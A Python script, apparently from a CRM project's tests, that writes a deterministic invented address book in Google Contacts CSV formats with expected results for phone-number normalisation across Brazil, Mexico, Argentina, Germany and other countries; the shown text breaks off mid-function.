"""Write the invented address book that the contact import is tested with.

    python crm/tests/data/make_google_contacts.py [folder]

writes into the folder (default: the one this file is in)

    google_contacts.csv             1,000 rows, Google's export format since 2024
    google_contacts_old_format.csv  30 rows, Google's export format before that
    google_contacts.expected.json   the truth about both

The truth is not read back out of the CSV: every number is made here from a
country and digits, and what it stands for is written down before it is given
the spelling which goes into the file. Nothing of the product is imported, and
nothing but the standard library. Everybody in the files is invented.

Only Random.random() is drawn from, the one method whose sequence Python
promises to keep, so the output is the same on every version.
"""

import csv
import io
import json
import random
import sys
import unicodedata
from pathlib import Path

SEED = 20240917
ROWS = 1000
SEP = " ::: "

HEADER = [
    "First Name",
    "Middle Name",
    "Last Name",
    "Phonetic First Name",
    "Phonetic Middle Name",
    "Phonetic Last Name",
    "Name Prefix",
    "Name Suffix",
    "Nickname",
    "File As",
    "Organization Name",
    "Organization Title",
    "Organization Department",
    "Birthday",
    "Notes",
    "Photo",
    "Labels",
    "E-mail 1 - Label",
    "E-mail 1 - Value",
    "E-mail 2 - Label",
    "E-mail 2 - Value",
    "Phone 1 - Label",
    "Phone 1 - Value",
    "Phone 2 - Label",
    "Phone 2 - Value",
    "Phone 3 - Label",
    "Phone 3 - Value",
    "Phone 4 - Label",
    "Phone 4 - Value",
    "Address 1 - Label",
    "Address 1 - Formatted",
    "Address 1 - Street",
    "Address 1 - City",
    "Address 1 - PO Box",
    "Address 1 - Region",
    "Address 1 - Postal Code",
    "Address 1 - Country",
    "Address 1 - Extended Address",
    "Website 1 - Label",
    "Website 1 - Value",
    "Event 1 - Label",
    "Event 1 - Value",
    "Relation 1 - Label",
    "Relation 1 - Value",
    "Custom Field 1 - Label",
    "Custom Field 1 - Value",
]

OLD_HEADER = [
    "Name",
    "Given Name",
    "Additional Name",
    "Family Name",
    "Yomi Name",
    "Given Name Yomi",
    "Additional Name Yomi",
    "Family Name Yomi",
    "Name Prefix",
    "Name Suffix",
    "Initials",
    "Nickname",
    "Short Name",
    "Maiden Name",
    "Birthday",
    "Gender",
    "Location",
    "Billing Information",
    "Directory Server",
    "Mileage",
    "Occupation",
    "Hobby",
    "Sensitivity",
    "Priority",
    "Subject",
    "Notes",
    "Language",
    "Photo",
    "Group Membership",
    "E-mail 1 - Type",
    "E-mail 1 - Value",
    "E-mail 2 - Type",
    "E-mail 2 - Value",
    "Phone 1 - Type",
    "Phone 1 - Value",
    "Phone 2 - Type",
    "Phone 2 - Value",
    "Phone 3 - Type",
    "Phone 3 - Value",
    "Address 1 - Type",
    "Address 1 - Formatted",
    "Address 1 - Street",
    "Address 1 - City",
    "Address 1 - PO Box",
    "Address 1 - Region",
    "Address 1 - Postal Code",
    "Address 1 - Country",
    "Address 1 - Extended Address",
    "Organization 1 - Type",
    "Organization 1 - Name",
    "Organization 1 - Yomi Name",
    "Organization 1 - Title",
    "Organization 1 - Department",
    "Organization 1 - Symbol",
    "Organization 1 - Location",
    "Organization 1 - Job Description",
    "Website 1 - Type",
    "Website 1 - Value",
]


# ---------------------------------------------------------------- chance


class Dice:
    def __init__(self, seed):
        self._random = random.Random(seed).random

    def below(self, n):
        return int(self._random() * n)

    def pick(self, seq):
        return seq[self.below(len(seq))]

    def chance(self, p):
        return self._random() < p

    def digits(self, n):
        return "".join(str(self.below(10)) for _ in range(n))

    def weighted(self, pairs):
        x = self._random() * sum(w for _, w in pairs)
        for value, w in pairs:
            x -= w
            if x < 0:
                return value
        return pairs[-1][0]

    def shuffle(self, items):
        for i in range(len(items) - 1, 0, -1):
            j = self.below(i + 1)
            items[i], items[j] = items[j], items[i]


# ---------------------------------------------------------------- numbers


class Phone:
    """One number of one cell: its spelling, and what the spelling stands for.

    e164       country code + digits as they were typed (trunk zero, 00, carrier
               prefix, the Argentine 15 and the extension already understood)
    canonical  the one form which stands for all spellings of the number:
               BR mobile with its 9, MX without the 1, AR with the 9
    """

    def __init__(
        self,
        raw,
        e164="",
        canonical="",
        kind="plain",
        status="valid",
        strict=True,
        ext="",
        reason="",
        meant="",
        br_reading="",
    ):
        self.raw, self.e164, self.kind, self.status = raw, e164, kind, status
        self.canonical = canonical or e164
        self.strict, self.ext, self.reason = strict, ext, reason
        self.meant, self.br_reading = meant, br_reading

    def spelled(self, raw, kind):
        """The same number, written another way."""
        return Phone(raw, self.e164, self.canonical, kind, self.status, self.strict, self.ext)

    def truth(self, label):
        out = {"raw": self.raw, "label": label, "kind": self.kind, "status": self.status}
        if self.status == "valid":
            out["e164"] = "+" + self.e164
            out["canonical"] = "+" + self.canonical
            out["strict"] = self.strict
            forms = variants(self.canonical)
            if len(forms) > 1:
                out["variants"] = ["+" + f for f in forms]
            if self.ext:
                out["extension"] = self.ext
        elif self.status == "invalid":
            out["reason"] = self.reason
        else:
            out["meant"] = "+" + self.meant
            out["br_reading"] = "+" + self.br_reading if self.br_reading else None
        return out


def variants(canonical):
    """Every digit string which denotes the same WhatsApp number as this one."""
    if canonical.startswith("55") and len(canonical) == 13 and canonical[4] == "9" and canonical[5] in "6789":
        return [canonical[:4] + canonical[5:], canonical]
    if canonical.startswith("52") and len(canonical) == 12:
        return [canonical, "521" + canonical[2:]]
    if canonical.startswith("549") and len(canonical) == 13:
        return ["54" + canonical[3:], canonical]
    return [canonical]


def bad(raw, reason):
    return Phone(raw, kind="invalid", status="invalid", reason=reason)


DDD_LOW = ["11", "12", "13", "14", "15", "16", "17", "18", "19", "21", "22", "24", "27", "28"]
DDD_HIGH = [
    "31",
    "32",
    "34",
    "37",
    "38",
    "41",
    "42",
    "43",
    "44",
    "47",
    "48",
    "51",
    "53",
    "54",
    "55",
    "61",
    "62",
    "65",
    "67",
    "71",
    "73",
    "75",
    "81",
    "82",
    "83",
    "84",
    "85",
    "86",
    "91",
    "92",
    "98",
]
US_AREAS = ["212", "305", "312", "415", "512", "617", "646", "702", "713", "786", "818", "917"]


class Numbers:
    """Hands out numbers, never the same one twice."""

    def __init__(self, dice):
        self.d, self.used = dice, set()

    def _new(self, make):
        while True:
            got = make()
            canonical = got[0] if isinstance(got, tuple) else got
            if not self.used.intersection(variants(canonical)):
                self.used.update(variants(canonical))
                return got

    # Brazil. Local parts of a mobile: 9 + eight digits; "tail" is these eight.
    def br_mobile_parts(self, ddds=None, first="6789"):
        d = self.d

        def make():
            ddd = d.pick(ddds or (DDD_LOW if d.chance(0.6) else DDD_HIGH))
            tail = d.pick(first) + d.digits(7)
            return "55" + ddd + "9" + tail, ddd, tail

        _, ddd, tail = self._new(make)
        return ddd, tail

    def br_mobile(self, ddds=None, style=None, first="6789", kind="plain"):
        ddd, tail = self.br_mobile_parts(ddds, first)
        return br_mobile_spelling(ddd, tail, style or self.d.weighted(BR_STYLES), kind)

    def br_landline_parts(self):
        d = self.d

        def make():
            ddd = d.pick(DDD_LOW + DDD_HIGH)
            local = d.pick("23") + str(1 + d.below(9)) + d.digits(6)
            return "55" + ddd + local, ddd, local

        _, ddd, local = self._new(make)
        return ddd, local

    def br_landline(self, style=None, kind="br_landline"):
        ddd, local = self.br_landline_parts()
        a, b = local[:4], local[4:]
        raw = {
            "intl": f"+55 {ddd} {a}-{b}",
            "national": f"({ddd}) {a}-{b}",
            "trunk": f"0{ddd} {a}-{b}",
        }[style or self.d.pick(["intl", "national", "national", "trunk"])]
        return Phone(raw, "55" + ddd + local, kind=kind)

    def br_0800(self, raw_style):
        n = self._new(lambda: "55800" + str(1 + self.d.below(9)) + self.d.digits(6))
        a, b = n[5:8], n[8:]
        raw = {"spaced": f"0800 {a} {b}", "plain": f"0800{a}{b}", "intl": f"+55 800 {a} {b}"}[raw_style]
        return Phone(raw, n, kind="br_0800")

    def mx_parts(self):
        d = self.d

        def make():
            area = d.pick(["55", "33", "81"])
            return "52" + area + d.pick("1234568") + d.digits(7)

        return self._new(make)[2:]

    def mx(self, one=None, kind="plain"):
        return mx_spelling(self.mx_parts(), self.d.chance(0.4) if one is None else one, kind)

    def ar_parts(self):
        d = self.d

        def make():
            return "54911" + d.pick("356") + str(1 + d.below(9)) + d.digits(6)

        return self._new(make)[5:]

    def ar(self, style=None, kind="plain"):
        return ar_spelling(self.ar_parts(), style or self.d.pick(["nine", "nine", "bare"]), kind)

    def us(self):
        d = self.d
        n = self._new(lambda: "1" + d.pick(US_AREAS) + "55501" + d.digits(2))
        a, c = n[1:4], n[7:]
        return Phone(d.pick([f"+1 {a}-555-{c}", f"+1 ({a}) 555-{c}", f"+1{a}555{c}", f"+1 {a}.555.{c}"]), n)

    # United States, United Kingdom, Germany, France: ranges set aside for films and
    # books, as far as the numbering plan data of phone libraries lists them as valid
    def gb(self):
        n = self._new(lambda: self.d.pick(["442079460", "441134960"]) + self.d.digits(3))
        if n.startswith("4420"):
            return Phone(f"+44 20 7946 {n[8:]}", n)
        return Phone(f"+44 113 496 {n[8:]}", n)

    def de_mobile(self):
        return self._new(lambda: "4917139200" + self.d.digits(2))

    def de(self):
        d = self.d
        if d.chance(0.5):
            n = self.de_mobile()
            return Phone(d.pick([f"+49 171 {n[5:]}", f"+49 171 / {n[5:8]} {n[8:]}", f"+49171{n[5:]}"]), n)
        n = self._new(lambda: d.pick(["493023125", "496990009", "494066969", "498999998"]) + d.digits(3))
        return Phone(f"+49 {n[2:4]} {n[4:]}", n)

    def fr(self):
        d = self.d
        n = self._new(lambda: d.pick(["3319900", "3326191", "3335301", "3346571", "3353649"]) + d.digits(4))
        return Phone("+33 " + n[2] + " " + " ".join(n[i : i + 2] for i in range(3, 11, 2)), n)

    def simple(self, cc, heads, total, cuts):
        """cc + one of the heads + random digits up to `total` national digits."""
        d = self.d

        def make():
            head = d.pick(heads)
            return cc + head + d.digits(total - len(head))

        n = self._new(make)
        if d.chance(0.25):
            return Phone("+" + n, n)
        rest, parts = n[len(cc) :], []
        for c in cuts:
            parts.append(rest[:c])
            rest = rest[c:]
        return Phone("+" + cc + " " + " ".join(parts), n)


BR_STYLES = [
    ("intl", 30),
    ("compact", 12),
    ("national", 28),
    ("national_spaced", 8),
    ("trunk", 8),
    ("no_plus", 6),
    ("bare", 8),
]


def br_mobile_spelling(ddd, tail, style, kind="plain"):
    nine, a, b = "9" + tail, "9" + tail[:4], tail[4:]
    o = tail[:4]
    raw = {
        "intl": f"+55 {ddd} {a}-{b}",
        "compact": f"+55{ddd}{nine}",
        "national": f"({ddd}) {a}-{b}",
        "national_spaced": f"{ddd} 9 {o} {b}",
        "trunk": f"0{ddd} {a}-{b}",
        "no_plus": f"55 {ddd} {a}-{b}",
        "bare": f"{ddd}{nine}",
        "eight_intl": f"+55 {ddd} {o}-{b}",
        "eight_compact": f"+55{ddd}{tail}",
        "eight_national": f"({ddd}) {o}-{b}",
        "carrier": f"015 {ddd} {a}-{b}",
        "plus_trunk": f"+55 (0{ddd}) {a}-{b}",
        "double_zero": f"0055 {ddd} {a}-{b}",
        "xx": f"0xx{ddd} {a}-{b}",
        "tel": f"tel:+55-{ddd}-{a}-{b}",
        "dots": f"+55.{ddd}.{a}.{b}",
        "brackets": f"[+55] ({ddd}) {a} - {b}",
    }[style]
    short = style.startswith("eight")
    canonical = "55" + ddd + nine
    # numbers of the old eight digits are no longer in the plan, but WhatsApp has them
    return Phone(raw, "55" + ddd + (tail if short else nine), canonical, kind, strict=not short)


def mx_spelling(ten, one, kind="plain"):
    body = f"{ten[:2]} {ten[2:6]} {ten[6:]}"
    if one:
        return Phone(f"+52 1 {body}", "521" + ten, "52" + ten, kind, strict=False)
    return Phone(f"+52 {body}", "52" + ten, "52" + ten, kind)


def ar_spelling(eight, style, kind="plain"):
    a, b = eight[:4], eight[4:]
    raw, e164 = {
        "nine": (f"+54 9 11 {a}-{b}", "54911" + eight),
        "bare": (f"+54 11 {a}-{b}", "5411" + eight),
        "fifteen": (f"+54 11 15-{a}-{b}", "54911" + eight),
        "fifteen_brackets": (f"+54 (11) 15 {a} {b}", "54911" + eight),
    }[style]
    return Phone(raw, e164, "54911" + eight, kind)


def in_digits(text, zero):
    return "".join(chr(ord(zero) + int(c)) if c in "0123456789" else c for c in text)


# ---------------------------------------------------------------- people


def words(text):
    return text.split("|")


PEOPLE = {
    "br": (
        words(
            "João|Maria|José|Ana Paula|Antônio|Conceição|Luís Otávio|Débora|Flávio|Íris|Caio|Letícia|Márcio|Patrícia|Rogério|Simone|Thaís|Vinícius|Zuleica|Érico|Mônica|Gonçalo|Júlia|Raíssa|Hélio|Graça|Tomás|Benício|Lúcia|Sebastião|Estêvão|Natália"
        ),
        words(
            "Silva|da Silva|dos Santos|Oliveira|Souza|Araújo|Gonçalves|Conceição|Magalhães|Brandão|Corrêa|Assunção|Falcão|Leão|Queirós|Teixeira|Vasconcelos|Nóbrega|Simões|Galvão|Pinheiro|Damasceno|Figueirêdo|Antunes|Lourenço|Peçanha|Sá|de Sá e Melo"
        ),
    ),
    "pt": (
        words("Inês|Rui|Catarina|Gonçalo|Beatriz|Nuno|Mafalda|Duarte"),
        words("Guimarães|Simões|Leitão|Brandão|Pacheco|Fragoso|Mourão|Abrantes"),
    ),
    "mx": (
        words("María José|Jesús|Guadalupe|Ángel|Lucía|Íñigo|Concepción|Raúl|Ximena|Óscar|Verónica|Tomás"),
        words("Hernández|Núñez|Ibáñez|Muñoz|Peña|Güemes|López|Gutiérrez|Ordóñez|Zúñiga|Ávila|Cárdenas"),
    ),
    "ar": (
        words("Agustín|Belén|Facundo|Julián|Martín|Sofía|Valentín|Rocío|Nicolás|Inés"),
        words("Fernández|Giménez|Bruñel|Pérez|Quiroga|Sánchez|Yáñez|Zárate|Bianchi|Estévez"),
    ),
    "es": (
        words("Begoña|Íker|Nuria|Andrés|Pilar|Álvaro|Montserrat|Joaquín|Núria|Xoán"),
        words("Peñalver|Ibáñez|Castaño|Garrigós|Muñiz|Argüelles|Etxeberria|Piñeiro|Roldán|Solís"),
    ),
    "us": (
        words("Aaron|Bethany|Chloë|Darnell|Eleanor|Finn|Grace|Hudson|Zoë|Renée"),
        words("O'Malley|Smith-Barrow|Whitfield|Van Allen|McCready|Fitzgerald|Lockwood|Brønsted|St. James|Ashby"),
    ),
    "gb": (
        words("Siân|Rhys|Imogen|Alasdair|Niamh|Oisín|Harriet|Callum"),
        words("Ó Briain|Llewellyn|MacRae|Fairclough|Pemberton|D'Arcy|Ashworth|Hughes-Wyn"),
    ),
    "de": (
        words("Jörg|Käthe|Günther|Änne|Björn|Mareike|Jürgen|Sören|Dörte|Anneliese|Götz|Wiebke"),
        words("Müller|Weiß|Schröder|Größmann|Kühn|Böhme|von der Straßen|Jäger|Fröhlich|Häußler|Öztürk-Lang|Strauß"),
    ),
    "fr": (
        words("Hélène|François|Zoé|Loïc|Anaïs|Jérôme|Noémie|Gaël|Cécile|Théo|Maëlle|Benoît"),
        words("Lefèvre|Béranger|D'Aubigné|Crémieux|Lacroix|Desprès|Guérin|Bœuf|L'Hôpital|Château|Févier|Mérieux"),
    ),
    "pl": (
        words("Łukasz|Małgorzata|Zbigniew|Świętosława|Paweł|Bożena|Michał|Grażyna|Żaneta|Wojciech"),
        words("Wójcik|Łęcki|Śliwińska|Żółtowski|Kamiński|Gąsior|Dąbrowska|Ćwikliński|Brzęczyszczykiewicz|Świątek"),
    ),
    "tr": (
        words("İbrahim|Şule|Çağla|Gökhan|Özgür|Büşra|Işıl|Ümit|Yiğit|Tuğba"),
        words("Yıldız|Şahin|Çelik|Öztürk|Güneş|Kılıç|Aydoğan|Uğurlu|İnce|Doğan"),
    ),
    "vn": (
        words("Thị Hương|Văn Đức|Minh Châu|Quốc Bảo|Ngọc Ánh|Hữu Phước|Thùy Dương|Đình Trọng"),
        words("Nguyễn|Trần|Lê|Phạm|Huỳnh|Vũ|Đặng|Bùi"),
    ),
    "arab": (
        words("محمد|فاطمة|عبد الله|نور|يوسف|ليلى|خالد|مريم|عمر|هدى"),
        words("الأحمد|بن سعيد|الخطيب|منصور|الزهراني|حداد|السيد|العلي|درويش|قاسم"),
    ),
    "he": (
        words("נועה|איתן|שירה|יונתן|תמר|אורי|מיכל|דוד"),
        words("כהן־לוי|פרידמן|בן־דוד|שפירא|אלמוג|גולן|רוזנברג|ברק"),
    ),
    "zh": (words("伟|芳|秀英|子涵|建国|雨桐|浩然|丽娜|志强|欣怡"), words("王|李|张|刘|陈|杨|欧阳|司马|赵|黄")),
    "ja": (words("太郎|花子|健一|さくら|翔太|美咲|大輔|ひろみ"), words("佐藤|鈴木|髙橋|田中|渡邊|伊藤|山本|小林")),
    "ko": (words("민준|서연|지훈|하은|도윤|수빈|예준|지우"), words("김|이|박|최|정|강|조|윤")),
    "ru": (
        words("Алексей|Наталья|Фёдор|Юлия|Дмитрий|Ольга|Семён|Елизавета|Артём|Жанна"),
        words("Королёв|Соловьёва|Щукин|Ежова|Цветков|Белых|Журавлёва|Рыбаков|Яковлев|Чернышёв"),
    ),
    "uk": (words("Олексій|Ганна|Ярослав|Соломія|Їлик|Єва"), words("Шевчук|Ґудзь|Коваленко|Їжакевич|Лисенко|Мельник")),
    "hi": (words("अमित|प्रिया|राजेश|सुनीता|विकास|अनन्या|श्रेया|कृष्ण"), words("शर्मा|वर्मा|गुप्ता|सिंह|त्रिपाठी|अग्रवाल|मिश्रा|पटेल")),
}

KANA = {
    "太郎": "タロウ",
    "花子": "ハナコ",
    "健一": "ケンイチ",
    "さくら": "サクラ",
    "翔太": "ショウタ",
    "美咲": "ミサキ",
    "大輔": "ダイスケ",
    "ひろみ": "ヒロミ",
    "佐藤": "サトウ",
    "鈴木": "スズキ",
    "髙橋": "タカハシ",
    "田中": "タナカ",
    "渡邊": "ワタナベ",
    "伊藤": "イトウ",
    "山本": "ヤマモト",
    "小林": "コバヤシ",
}

WEIGHTS = [
    ("br", 48),
    ("pt", 3),
    ("mx", 6),
    ("ar", 5),
    ("es", 4),
    ("us", 5),
    ("gb", 3),
    ("de", 4),
    ("fr", 3),
    ("pl", 3),
    ("tr", 2),
    ("vn", 2),
    ("arab", 3),
    ("he", 2),
    ("zh", 2),
    ("ja", 2),
    ("ko", 2),
    ("ru", 2),
    ("uk", 1),
    ("hi", 2),
]

ORGS = words(
    "Padaria Pão Dourado Ltda.|Clínica São Brás|Oficina do Zé & Filhos|Müller & Söhne GmbH|"
    'Taller "El Ñandú"|Boulangerie de l\'Étoile|Żabka Próbna sp. z o.o.|Çınar Tekstil A.Ş.|'
    "Blue Heron Supplies, Inc.|Café & Cia, Importação|مؤسسة النخيل|株式会社サンプル|한빛상사|ООО «Ромашка»|"
    "Floricultura Jasmim|Academia Corpo & Mente|Imobiliária Horizonte Azul|Pet Shop Bicho Feliz"
)
TITLES = words("Sócia-gerente|Vendas|Compras|Geschäftsführer|Directeur|Dueña|Owner|Contadora|CEO|Recepção")
LABELS = words(
    "Clientes|Fornecedores|Família|Leads 2024|Clientes, VIP|Friends|Escola|Newsletter|Não ligar|Ärzte|客户|Futebol ⚽"
)
NOTES = [
    "Cliente desde 2019.",
    "Prefere contato à tarde",
    "Indicação da Márcia",
    "Ligar depois das 18h; não gosta de áudio",
    "Pediu orçamento, aguardando",
    "Conhecida da feira",
    "bloqueado?",
]
CITIES = [
    ("São Paulo", "SP", "BR"),
    ("Florianópolis", "SC", "BR"),
    ("Belém", "PA", "BR"),
    ("Goiânia", "GO", "BR"),
    ("München", "", "DE"),
    ("Ciudad de México", "CDMX", "MX"),
    ("Córdoba", "", "AR"),
    ("Łódź", "", "PL"),
]
EMOJI = ["🌻", "❤️", "👩‍👧‍👦", "🇧🇷", "⚽", "🔥", "👍🏽", "🐶"]
TRANSLIT = {"ß": "ss", "ø": "o", "ł": "l", "Ł": "l", "đ": "d", "Đ": "d", "ı": "i", "œ": "oe"}


class Row:
    def __init__(self, first="", last="", phones=(), case=None, kinds=(), **fields):
        """phones: list of cells, each (label, [Phone, ...])"""
        self.f = {"First Name": first, "Last Name": last}
        self.f.update(fields)
        self.phones = list(phones)
        self.emails = []  # cells: (label, [address, ...])
        self.labels = []
        self.kinds = list(kinds)
        self.case = case
        self.by_chance = True  # may be given labels and other fields by chance

    def name(self):
        parts = (self.f.get(k, "").strip() for k in ("First Name", "Middle Name", "Last Name"))
        return " ".join(p for p in parts if p)

    def numbers(self):
        return [(label, p) for label, cell in self.phones for p in cell]

    def cells(self):
        out = dict(self.f)
        out["Labels"] = SEP.join(self.labels)
        for i, (label, values) in enumerate(self.emails, 1):
            out[f"E-mail {i} - Label"], out[f"E-mail {i} - Value"] = label, SEP.join(values)
        for i, (label, values) in enumerate(self.phones, 1):
            out[f"Phone {i} - Label"] = label
            out[f"Phone {i} - Value"] = SEP.join(p.raw for p in values)
        return out

    def copy(self):
        other = Row(case=self.case, kinds=self.kinds)
        other.f, other.phones = dict(self.f), list(self.phones)
        other.emails, other.labels = list(self.emails), list(self.labels)
        other.by_chance = False
        return other


class Book:
    def __init__(self, dice, numbers):
        self.d, self.n = dice, numbers
        self.rows, self.cases = [], []
        self.mail_count = 0

    def person(self, origin="br"):
        firsts, lasts = PEOPLE[origin]
        return self.d.pick(firsts), self.d.pick(lasts)

    def email(self, first, last):
        text = "".join(TRANSLIT.get(c, c) for c in f"{first}.{last}")
        text = unicodedata.normalize("NFKD", text).encode("ascii", "ignore").decode().lower()
        text = "".join(c for c in text.replace(" ", ".") if c.isalnum() or c == ".").strip(".")
        self.mail_count += 1
        return f"{text or 'contact'}.{self.mail_count}@{self.d.pick(['example.com', 'example.org', 'mail.example', 'example.net'])}"

    def number(self, origin):
        n = self.n
        make = {
            "br": lambda: n.br_mobile() if self.d.chance(0.93) else n.br_landline(),
            "pt": lambda: n.simple("351", ["91", "93", "96"], 9, [3, 3, 3]),
            "mx": n.mx,
            "ar": n.ar,
            "us": n.us,
            "gb": n.gb,
            "de": n.de,
            "fr": n.fr,
            "es": lambda: n.simple("34", ["61", "62", "65", "66"], 9, [3, 3, 3]),
            "pl": lambda: n.simple("48", ["50", "51", "60", "66", "69", "88"], 9, [3, 3, 3]),
            "tr": lambda: n.simple("90", ["532", "533", "542", "543"], 10, [3, 3, 2, 2]),
            "vn": lambda: n.simple("84", ["90", "91", "98"], 9, [2, 3, 4]),
            "arab": lambda: self.d.pick(
                [
                    lambda: n.simple("971", ["50"], 9, [2, 3, 4]),
                    lambda: n.simple("20", ["100", "101", "106"], 10, [2, 4, 4]),
                    lambda: n.simple("966", ["50", "55"], 9, [2, 3, 4]),
                ]
            )(),
            "he": lambda: n.simple("972", ["502", "522", "542"], 9, [2, 3, 4]),
            "zh": lambda: n.simple("86", ["138", "139", "158"], 11, [3, 4, 4]),
            "ja": lambda: n.simple("81", ["901", "902", "801"], 10, [2, 4, 4]),
            "ko": lambda: n.simple("82", ["102", "103", "104"], 10, [2, 4, 4]),
            "ru": lambda: n.simple("7", ["916", "903", "925"], 10, [3, 3, 2, 2]),
            "uk": lambda: n.simple("380", ["67", "50"], 9, [2, 3, 2, 2]),
            "hi": lambda: n.simple("91", ["98", "99", "97"], 10, [5, 5]),
        }[origin]
        return make()

    def add(self, row):
        self.rows.append(row)
        return row

    def case(self, kind, note, *rows):
        number = len(self.cases)
        self.cases.append({"kind": kind, "note": note})
        for row in rows:
            row.case = number
            row.kinds.append(kind)
            self.rows.append(row)

    def who(self, phones, origin="br", label="Mobile", **fields):
        """A planted row: an invented person with these numbers, one cell each."""
        first, last = self.person(origin)
        return Row(first, last, [(label, [p]) for p in phones], **fields)

    # ------------------------------------------------ planted cases

    def plant(self):
        n, d, case, who = self.n, self.d, self.case, self.who
        mobile = lambda style="intl", **k: n.br_mobile(style=style, **k)

        # --- Brazil
        for high in (False, True):
            for a, b in (
                ("intl", "eight_intl"),
                ("national", "eight_national"),
                ("compact", "eight_compact"),
                ("national", "eight_intl"),
                ("intl", "eight_national"),
                ("bare", "eight_compact"),
            ):
                ddd, tail = n.br_mobile_parts(DDD_HIGH if high else DDD_LOW)
                side = "high" if high else "low"
                first, last = self.person()
                case(
                    f"br_ninth_digit_pair_{side}",
                    "one mobile with and without the ninth digit, DDD " + ("above 30" if high else "below 31"),
                    Row(first, last, [("Mobile", [br_mobile_spelling(ddd, tail, a, "br_with_nine")])]),
                    Row(first, last + " (antigo)", [("Mobile", [br_mobile_spelling(ddd, tail, b, "br_without_nine")])]),
                )
        for ddds, side in ((DDD_LOW, "low"), (DDD_HIGH, "high")):
            for style in ("eight_intl", "eight_national", "eight_compact"):
                case(
                    f"br_without_nine_alone_{side}",
                    "mobile without the ninth digit, no partner in the file",
                    who([n.br_mobile(ddds, style, kind="br_without_nine")]),
                )
        for _ in range(4):
            ddd, local = n.br_landline_parts()
            n.used.add("55" + ddd + "9" + local)
            land = Phone(f"+55 {ddd} {local[:4]}-{local[4:]}", "55" + ddd + local, kind="br_landline")
            mob = Phone(f"+55 {ddd} 9{local[:4]}-{local[4:]}", "55" + ddd + "9" + local, kind="br_mobile_like_landline")
            case(
                "br_landline_is_not_mobile",
                "a landline and a mobile that differ only by a 9 in front of a 2 or 3: two persons, never one",
                who([land], label="Home"),
                who([mob]),
            )
        for style in ("intl", "national", "trunk"):
            for _ in range(3):
                case("br_landline", "landline: no ninth digit may be put in", who([n.br_landline(style)], label="Home"))
        for style in ("spaced", "plain", "intl"):
            case(
                "br_0800",
                "toll-free number: 0800… is +55 800…",
                Row("", "", [("Main", [n.br_0800(style)])], **{"Organization Name": d.pick(ORGS)}),
            )
        for style, kind in (
            ("carrier", "br_carrier_prefix"),
            ("plus_trunk", "br_trunk_zero_after_country"),
            ("double_zero", "double_zero"),
            ("xx", "br_0xx"),
            ("tel", "tel_uri"),
            ("dots", "punctuation"),
            ("brackets", "punctuation"),
            ("no_plus", "cc_without_plus"),
        ):
            for _ in range(3):
                case(kind, "spelling of a Brazilian mobile", who([mobile(style, kind=kind)]))
        for a, b in (
            ("intl", "national"),
            ("compact", "trunk"),
            ("no_plus", "bare"),
            ("double_zero", "national_spaced"),
            ("carrier", "intl"),
            ("tel", "brackets"),
        ):
            ddd, tail = n.br_mobile_parts()
            first, last = self.person()
            case(
                "br_same_number_two_spellings",
                "one number in two spellings, both with the ninth digit",
                Row(first, last, [("Mobile", [br_mobile_spelling(ddd, tail, a, "spelling_" + a)])]),
                Row(first, "", [("WhatsApp", [br_mobile_spelling(ddd, tail, b, "spelling_" + b)])]),
            )

        # --- Mexico and Argentina
        for _ in range(5):
            ten = n.mx_parts()
            first, last = self.person("mx")
            case(
                "mx_521_pair",
                "one Mexican number with and without the 1 after 52",
                Row(first, last, [("Mobile", [mx_spelling(ten, True, "mx_with_one")])]),
                Row(first, last, [("Mobile", [mx_spelling(ten, False, "mx_without_one")])]),
            )
        for one in (True, False, True, False):
            case(
                "mx_alone",
                "Mexican number, no partner",
                who([n.mx(one, "mx_with_one" if one else "mx_without_one")], "mx"),
            )
        for a, b in (
            ("nine", "bare"),
            ("nine", "fifteen"),
            ("bare", "fifteen"),
            ("nine", "bare"),
            ("bare", "fifteen_brackets"),
        ):
            eight = n.ar_parts()
            first, last = self.person("ar")
            case(
                "ar_549_pair",
                "one Argentine number, two of: 54 9 11 / 54 11 / 54 11 15",
                Row(first, last, [("Mobile", [ar_spelling(eight, a, "ar_" + a)])]),
                Row(first, last, [("Mobile", [ar_spelling(eight, b, "ar_" + b)])]),
            )
        eight = n.ar_parts()
        first, last = self.person("ar")
        case(
            "ar_549_triple",
            "one Argentine number in three spellings",
            *[Row(first, last, [("Mobile", [ar_spelling(eight, s, "ar_" + s)])]) for s in ("nine", "bare", "fifteen")],
        )
        for s in ("fifteen", "fifteen_brackets"):
            case("ar_alone", "Argentine number with 15, no partner", who([n.ar(s, "ar_" + s)], "ar"))

        # --- Germany: the national form cannot be told from a Brazilian number
        for k in range(4):
            m = n.de_mobile()
            first, last = self.person("de")
            trio = [
                Row(first, last, [("Mobile", [Phone(f"+49 171 {m[5:]}", m, kind="spelling_plus")])]),
                Row(first, last, [("Mobile", [Phone("00" + m, m, kind="double_zero")])]),
            ]
            if k < 3:
                trio.append(
                    Row(
                        first,
                        last,
                        [
                            (
                                "Mobile",
                                [
                                    Phone(
                                        f"0171 {m[5:]}", kind="ambiguous_national", status="ambiguous_national", meant=m
                                    )
                                ],
                            )
                        ],
                        kinds=["ambiguous_national"],
                    )
                )
            case(
                "de_same_number_spellings",
                "one German number as +49, 0049 and, where there is a third row, in its "
                "national form, which with BR as default country cannot be known to be German",
                *trio,
            )
        for head, br in (("3023125", False), ("8999998", True)):
            tail = d.digits(3)
            meant = "49" + head + tail
            n.used.update(variants(meant))
            reading = "55" + head[:2] + "9" + head[2:] + tail if br else ""
            if reading:
                n.used.update(variants(reading))
            case(
                "ambiguous_national",
                "German landline in national form"
                + ("; read as Brazilian it is a mobile without the ninth digit" if br else ""),
                who(
                    [
                        Phone(
                            f"0{head[:2]} {head[2:]} {tail}",
                            kind="ambiguous_national",
                            status="ambiguous_national",
                            meant=meant,
                            br_reading=reading,
                        )
                    ],
                    "de",
                    "Home",
                ),
            )
        for x in (n.simple("41", ["79"], 9, [9]), n.fr(), n.simple("31", ["61", "62"], 9, [9])):
            num = x.spelled("00" + x.e164, "double_zero")
            case(
                "double_zero",
                "00 is the international prefix, although after 00 a Brazilian carrier code may stand "
                "(41 and 31 are such codes)",
                who([num], "fr"),
            )
        x = n.gb()
        case(
            "trunk_zero_in_brackets",
            "(0) after the country code",
            who([x.spelled("+44 (0)" + x.raw[4:], "trunk_zero_in_brackets")], "gb"),
        )
        m = n.de_mobile()
        case(
            "trunk_zero_in_brackets",
            "(0) after the country code",
            who([Phone(f"+49 (0) 171 {m[5:]}", m, kind="trunk_zero_in_brackets")], "de"),
        )

        # --- never across country codes
        for cc1, cc2, heads, length in (
            ("351", "34", ["91"], 9),
            ("48", "34", ["60", "66"], 9),
            ("90", "1", [], 10),
            ("52", "1", [], 10),
        ):
            if heads:
